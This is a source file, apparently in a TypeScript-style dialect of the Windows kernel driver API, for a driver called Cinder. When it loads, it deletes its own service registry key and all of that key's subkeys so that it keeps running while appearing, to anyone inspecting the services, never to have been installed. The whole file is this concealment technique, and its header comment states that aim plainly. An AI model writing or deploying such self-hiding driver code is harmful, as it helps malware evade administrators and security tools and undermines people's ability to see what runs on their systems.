/*
 * Cinder: deletes its own service key as soon as it runs.
 *
 * The key is needed to load a driver, not to keep it loaded. What runs after the key is gone was, for
 * whoever looks at the services, never installed.
 */
import {
  DELETE,
  DbgPrint,
  InitializeObjectAttributes,
  KEY_BASIC_INFORMATION,
  KEY_READ,
  KeyBasicInformation,
  NT_SUCCESS,
  OBJECT_ATTRIBUTES,
  OBJ_CASE_INSENSITIVE,
  OBJ_KERNEL_HANDLE,
  PWSTR,
  STATUS_SUCCESS,
  STATUS_UNSUCCESSFUL,
  UCHAR,
  UNICODE_STRING,
  ZwClose,
  ZwDeleteKey,
  ZwEnumerateKey,
  ZwOpenKey,
  addressof,
  array,
  cast,
  local,
  out,
} from 'wdm'
import type { DRIVER_OBJECT, HANDLE, NTSTATUS, ULONG } from 'wdm'

/** Room for what is said of a subkey: its name has up to 64 characters here. */
const ANSWER_BYTES = 0x90

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.DriverUnload = CinderUnload
  const key = Open(RegistryPath, null)
  if (key === 0) return STATUS_UNSUCCESSFUL
  // A key with subkeys cannot be deleted: those go first.
  while (DeleteFirstSubkey(key)) continue
  const status = ZwDeleteKey(key)
  ZwClose(key)
  DbgPrint('Cinder: works, without a key (0x%08X)\n', status)
  return STATUS_SUCCESS
}

/** Open a key so that it can be deleted, by its path or by its name below another; 0 where that fails. */
function Open(Name: UNICODE_STRING, Root: HANDLE): HANDLE {
  const attributes = local(OBJECT_ATTRIBUTES)
  InitializeObjectAttributes(attributes, Name, OBJ_KERNEL_HANDLE | OBJ_CASE_INSENSITIVE, Root, null)
  const key = out<HANDLE>()
  return NT_SUCCESS(ZwOpenKey(key, DELETE | KEY_READ, attributes)) ? key.value : 0
}

/** False when there is none, or it cannot be deleted. */
function DeleteFirstSubkey(Key: HANDLE): boolean {
  const answer = local(array(UCHAR, ANSWER_BYTES))
  const length = out<ULONG>()
  let status = ZwEnumerateKey(Key, 0, KeyBasicInformation, answer, ANSWER_BYTES, length)
  if (!NT_SUCCESS(status)) return false
  const first = cast(KEY_BASIC_INFORMATION, answer)
  const name = local(UNICODE_STRING)
  name.Length = first.NameLength
  name.MaximumLength = first.NameLength
  name.Buffer = cast(PWSTR, addressof(first.Name))
  const subkey = Open(name, Key)
  if (subkey === 0) return false
  status = ZwDeleteKey(subkey)
  ZwClose(subkey)
  return NT_SUCCESS(status)
}

function CinderUnload(DriverObject: DRIVER_OBJECT): void {
  DbgPrint('Cinder: ends\n')
}
